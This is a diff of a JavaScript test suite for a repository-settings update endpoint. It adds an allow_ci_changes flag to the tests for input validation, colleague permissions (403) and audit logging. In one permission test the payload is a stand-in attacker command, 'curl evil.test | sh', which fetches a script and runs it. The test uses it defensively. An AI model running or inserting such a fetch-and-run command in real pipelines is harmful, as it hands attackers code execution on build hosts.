@@ -36,6 +36,7 @@ withRunsHost(open => {
       ['no branch', { default_branch: null }],
       ['a test command that is too long', { test_command: 'x'.repeat(1001) }],
       ['a number for a test command', { test_command: 7 }],
+      ['a word for a yes', { allow_ci_changes: 'true' }],
       ['another address', { url: 'https://git.test/other.git' }],
       ['another folder', { name: 'x', path: '/etc' }],
       ['what is no object', 'name'],
@@ -49,7 +50,8 @@ withRunsHost(open => {
 
     it('is not for colleagues, in whose runs it would take effect', async () => {
       const colleague = 'Developer:bob:default';
-      for (const body of [{ test_command: 'curl evil.test | sh' }, { default_branch: 'x' }, {}]) {
+      const changes = [{ test_command: 'curl evil.test | sh' }, { default_branch: 'x' }, {}];
+      for (const body of [...changes, { allow_ci_changes: true }]) {
         expect(await patch(body, colleague)).toMatchObject({
           status: 403,
           body: { code: 'forbidden' },
@@ -68,11 +70,14 @@ withRunsHost(open => {
       await patch({ test_command: 'make test', name: repo.name });
       await patch({ test_command: 'make test' });
       await patch({ default_branch: 'next', name: 'New' }, admin);
+      await patch({ allow_ci_changes: true });
+      await patch({ allow_ci_changes: true });
       await host.send('DELETE', `/v1/repos/${repo.id}`, undefined, { caller: admin });
       const target = repo.id;
       expect(host.audited).toMatchObject([
         { principal: 'ann', action: 'repos.update', target, reason: 'test_command' },
         { principal: 'ada', action: 'repos.update', target, reason: 'name, default_branch' },
+        { principal: 'ann', action: 'repos.update', target, reason: 'allow_ci_changes' },
         { principal: 'ada', action: 'repos.archive', target },
       ]);
     });
@@ -81,9 +86,12 @@ withRunsHost(open => {
       const admin = 'Admin:ada:default';
       const named = await patch({ name: '  Store ' });
       expect(named).toMatchObject({ status: 200, body: { ...repo, name: 'Store' } });
-      const rest = { default_branch: 'release/2', test_command: 'npm test' };
+      expect(repo.allow_ci_changes).toBe(false);
+      const texts = { default_branch: 'release/2', test_command: 'npm test' };
+      const rest = { ...texts, allow_ci_changes: true };
       expect((await patch(rest, admin)).body).toEqual({ ...repo, name: 'Store', ...rest });
-      expect((await patch({ test_command: null })).body.test_command).toBeNull();
+      const back = { test_command: null, allow_ci_changes: false };
+      expect((await patch(back)).body).toMatchObject(back);
       expect((await patch({})).body).toEqual(await now());
       expect(await now()).toEqual({ ...repo, name: 'Store', default_branch: 'release/2' });
     });
